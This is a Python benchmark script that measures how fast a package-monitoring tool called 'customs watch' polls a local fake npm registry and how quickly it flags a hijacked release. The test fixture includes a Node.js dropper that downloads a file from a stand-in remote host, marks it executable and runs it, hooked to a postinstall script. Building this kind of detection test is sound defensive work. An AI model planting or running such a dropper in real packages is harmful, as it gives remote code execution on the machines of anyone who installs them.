#!/usr/bin/env python3
"""Scale figures for `customs watch`, on a registry served on loopback by this script.

    python3 bench/watch.py [--packages 2000] [--interval 20] [--concurrency 16]
                           [--postgres URL --workers 2]

Serves N small npm packages (two versions each, documents with ETags; a 304 for an
unchanged one), runs `customs watch` on all of them as a daemon, and prints:
requests per minute over the first (full) round and the following (conditional) rounds,
the time of each round, and the time from a hijacked release appearing on the registry
(a new version adding an install-time dropper) to its alert in the JSON-lines file.
With --postgres, runs --workers watch processes sharing that store instead of one.
Nothing leaves the machine; the watched packages are generated here.
"""
import argparse
import base64
import hashlib
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from artifacts import tgz

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def sri(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def iso(t):
    return time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(t))


class Registry:
    def __init__(self):
        self.docs = {}
        self.files = {}
        self.lock = threading.Lock()
        self.requests = 0
        self.not_modified = 0

    def publish(self, base, name, versions):
        """versions: list of (version, files, extra manifest fields)."""
        now = time.time()
        doc = {"name": name, "dist-tags": {}, "versions": {}, "time": {}}
        for i, (version, files, extra) in enumerate(versions):
            manifest = {"name": name, "version": version, "main": "index.js",
                        "description": "bench package", "repository": "https://example.invalid/r"}
            manifest.update(extra)
            files = dict(files)
            files["package.json"] = json.dumps(manifest, indent=2).encode()
            data = tgz(files)
            path = f"/{name}/-/{name}-{version}.tgz"
            self.files[path] = data
            entry = dict(manifest)
            entry["dist"] = {"tarball": base + path, "integrity": sri(data)}
            doc["versions"][version] = entry
            doc["time"][version] = iso(now - 86400 * (400 - i * 100) if version != "1.1.0" else now)
            doc["dist-tags"]["latest"] = version
        body = json.dumps(doc).encode()
        etag = '"' + hashlib.sha1(body).hexdigest() + '"'
        with self.lock:
            self.docs["/" + name] = (body, etag)


def handler(reg):
    class H(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def do_GET(self):
            with reg.lock:
                reg.requests += 1
                doc = reg.docs.get(self.path)
                data = reg.files.get(self.path)
            if doc is not None:
                body, etag = doc
                if self.headers.get("If-None-Match") == etag:
                    with reg.lock:
                        reg.not_modified += 1
                    self.send_response(304)
                    self.send_header("ETag", etag)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("ETag", etag)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            elif data is not None:
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
            else:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

    return H


CLEAN = b"module.exports = (a, b) => a + b;\n"
DROPPER = (b"const https = require('https'); const fs = require('fs');\n"
           b"const { execSync } = require('child_process');\n"
           b"https.get('https://203.0.113.9/p', (r) => { const f = fs.createWriteStream('/tmp/.x');\n"
           b"  r.pipe(f); f.on('finish', () => { fs.chmodSync('/tmp/.x', 0o755); execSync('/tmp/.x'); }); });\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--packages", type=int, default=2000)
    ap.add_argument("--interval", type=int, default=20)
    ap.add_argument("--concurrency", type=int, default=16)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--postgres")
    ap.add_argument("--workers", type=int, default=1)
    args = ap.parse_args()
    binary = os.path.join(ROOT, "target/release/customs")
    subprocess.run(["cargo", "build", "--release", "-q", "-p", "customs"], cwd=ROOT, check=True)

    reg = Registry()
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler(reg))
    server.daemon_threads = True
    server.handle_error = lambda *a: None
    base = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    names = [f"bench-pkg-{i:05}" for i in range(args.packages)]
    for n in names:
        reg.publish(base, n, [("1.0.0", {"index.js": CLEAN}, {}), ("1.0.1", {"index.js": CLEAN}, {})])

    work = tempfile.mkdtemp(prefix="customs-watch-bench-")
    with open(os.path.join(work, "list"), "w") as f:
        f.write("".join(f"npm:{n}\n" for n in names))
    store = args.postgres or os.path.join(work, "store.sqlite3")
    env = dict(os.environ, npm_config_registry=base + "/", CUSTOMS_STORE=store,
               HOME=work, npm_config_userconfig=os.path.join(work, "npmrc"))
    procs = []
    for w in range(args.workers):
        alerts = os.path.join(work, f"alerts-{w}.jsonl")
        err = open(os.path.join(work, f"watch-{w}.log"), "w")
        procs.append(subprocess.Popen(
            [binary, "watch", "--watch-list", os.path.join(work, "list"),
             "--interval", f"{args.interval}s", "--concurrency", str(args.concurrency),
             "--worker", f"bench-{w}", "--alerts-jsonl", alerts,
             "--cache-dir", os.path.join(work, f"cache-{w}")],
            env=env, stdout=subprocess.DEVNULL, stderr=err))
    try:
        rounds = []
        logs = [os.path.join(work, f"watch-{w}.log") for w in range(args.workers)]

        def lines():
            out = []
            for p in logs:
                with open(p) as f:
                    out += [l for l in f if l.startswith("customs watch:")]
            return out

        def wait_rounds(k, timeout=1800):
            t0 = time.time()
            while time.time() - t0 < timeout:
                if len(lines()) >= k * args.workers:
                    return
                time.sleep(0.05)
            sys.exit("the watch did not finish its rounds; logs in " + work)

        start = time.time()
        req0 = reg.requests
        wait_rounds(1)
        first = time.time() - start
        first_req = reg.requests - req0
        rss = []
        for p in procs:
            with open(f"/proc/{p.pid}/status") as f:
                rss += [int(l.split()[1]) for l in f if l.startswith("VmHWM")]
        print(f"packages watched: {args.packages}, workers: {args.workers}, "
              f"concurrency {args.concurrency} each, interval {args.interval} s, store: "
              f"{'PostgreSQL' if args.postgres else 'SQLite'}")
        print(f"first round (full documents): {first:.1f} s, {first_req} requests, "
              f"{first_req / first * 60:.0f} requests/min")
        for k in range(2, args.rounds + 1):
            req0, nm0 = reg.requests, reg.not_modified
            t0 = time.time()
            wait_rounds(k)
            # A round begins one interval after the last; time it from its first request.
            dt = time.time() - t0
            rounds.append((reg.requests - req0, reg.not_modified - nm0, dt))
        took = [l.rsplit(" in ", 1)[-1].strip() for l in lines()]
        for i, (r, nm, dt) in enumerate(rounds, 2):
            mine = took[(i - 1) * args.workers:i * args.workers]
            secs = max(float(t.split()[0]) for t in mine)
            print(f"round {i} (conditional): {r} requests, {nm} answered 304, polled in "
                  f"{secs:.1f} s = {r / max(secs, 0.001) * 60:.0f} requests/min")
        # The hijack: a new version with an install-time dropper.
        victim = names[len(names) // 2]
        published = time.time()
        reg.publish(base, victim, [
            ("1.0.0", {"index.js": CLEAN}, {}),
            ("1.0.1", {"index.js": CLEAN}, {}),
            ("1.1.0", {"index.js": CLEAN, "setup.js": DROPPER},
             {"scripts": {"postinstall": "node setup.js"}}),
        ])
        alert_files = [os.path.join(work, f"alerts-{w}.jsonl") for w in range(args.workers)]
        while True:
            got = []
            for a in alert_files:
                if os.path.exists(a):
                    with open(a) as f:
                        got += [json.loads(l) for l in f if l.strip()]
            if got:
                break
            if time.time() - published > 3 * args.interval + 600:
                sys.exit("no alert; logs in " + work)
            time.sleep(0.02)
        latency = time.time() - published
        print(f"hijacked release published -> alert: {latency:.1f} s "
              f"(interval {args.interval} s; alert: {got[0]['package']} {got[0]['version']} "
              f"{got[0]['verdict']['level'] if isinstance(got[0].get('verdict'), dict) else got[0].get('verdict')})")
        print(f"peak RSS per watch process: {', '.join(f'{k // 1024} MB' for k in rss)} (after the first round)")
    finally:
        for p in procs:
            p.terminate()
            p.wait()
        server.shutdown()


if __name__ == "__main__":
    main()
